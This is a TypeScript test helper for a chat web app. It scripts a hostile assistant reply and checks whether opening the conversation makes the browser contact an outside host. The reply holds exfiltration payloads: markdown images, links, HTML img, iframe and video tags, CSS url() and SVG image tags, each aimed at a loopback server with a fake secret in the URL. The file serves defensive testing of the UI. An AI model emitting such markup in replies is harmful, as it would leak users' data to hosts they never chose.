/**
 * Does opening a conversation make the browser send anything to a host the person never chose?
 * A scripted reply points every way markdown, raw HTML, CSS and SVG can load something at a
 * counting server on loopback; the conversation is then opened fresh in Chromium. Shared by the
 * web UI test and the `security.exfil_requests` benchmark.
 */
import type { Browser } from "playwright-core";
import { setProviderInPage } from "./browser.ts";
import { openUiRig } from "./ui-rig.ts";

/** A reply that tries each way of loading from `origin`; each URL carries a made-up secret. */
export function hostileReply(origin: string): string {
  const u = (what: string) => `${origin}/${what}?d=SECRET-4242`;
  return [
    "Here is what I found.",
    `![status](${u("md-image")})`,
    `![chart](${u("md-image.svg")} "a chart")`,
    `[the report](${u("link")})`,
    `<img src="${u("html-img")}">`,
    `<div style="background-image:url('${u("css-inline")}')">styled</div>`,
    `<style>body{background:url("${u("css-style")}")}</style>`,
    `<link rel="stylesheet" href="${u("css-link")}">`,
    `<svg xmlns="http://www.w3.org/2000/svg"><image href="${u("svg-image")}" width="10" height="10"/></svg>`,
    `<iframe src="${u("iframe")}"></iframe>`,
    `<video src="${u("video")}" autoplay></video>`,
    "A picture that is inline data: ![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==)",
  ].join("\n\n");
}

export interface ExfilProbe {
  /** Requests the counting server received, by path. */
  requests: string[];
  /** Requests the page itself tried to send anywhere but the daemon (Chromium's own view). */
  attempted: string[];
  /** The hrefs of links shown in the reply. */
  links: string[];
  /** Script errors on the page. */
  errors: string[];
}

/** Run the probe: a daemon, a fake LLM, a counting server, and the conversation opened anew. */
export async function probeExfil(browser: Browser): Promise<ExfilProbe> {
  const requests: string[] = [];
  using counter = Bun.serve({
    hostname: "127.0.0.1",
    port: 0,
    fetch(req) {
      requests.push(new URL(req.url).pathname);
      return new Response("x", { headers: { "content-type": "image/png" } });
    },
  });
  const origin = `http://127.0.0.1:${counter.port}`;
  await using ui = await openUiRig(browser);
  const { llm, url, page, errors } = ui;
  await setProviderInPage(page, llm.url);
  llm.script([{ text: hostileReply(origin) }]);
  await page.goto(`${url}#/chat/exfil`);
  await page.waitForSelector("#prompt");
  await page.fill("#prompt", "find the report");
  await page.click("#send");
  await page.waitForSelector(".msg.assistant .meta");

  // Opened afresh, as the person coming back to it would: a new tab on the conversation.
  const tab = await ui.tab("#/chat/exfil");
  const attempted: string[] = [];
  tab.on("request", (r) => {
    if (!r.url().startsWith(url) && !r.url().startsWith("data:")) attempted.push(r.url());
  });
  await tab.reload();
  await tab.waitForSelector(".msg.assistant .body a");
  // Every image in the reply done (loaded or refused), styles applied, the network quiet: by
  // then anything the reply could make the browser fetch has been asked for.
  await tab.waitForFunction(() =>
    Array.from(
      (
        globalThis as unknown as { document: { querySelectorAll(s: string): ArrayLike<{ complete: boolean }> } }
      ).document.querySelectorAll("#messages img"),
    ).every((i) => i.complete),
  );
  await tab.evaluate(
    () =>
      new Promise<void>((resolve) =>
        (globalThis as unknown as { requestAnimationFrame(f: () => void): void }).requestAnimationFrame(() =>
          (globalThis as unknown as { requestAnimationFrame(f: () => void): void }).requestAnimationFrame(resolve),
        ),
      ),
  );
  await tab.waitForLoadState("networkidle");
  const links = await tab
    .locator(".msg.assistant .body a")
    .evaluateAll((as) => as.map((a) => a.getAttribute("href") ?? ""));
  return { requests: [...requests], attempted, links, errors: [...errors] };
}
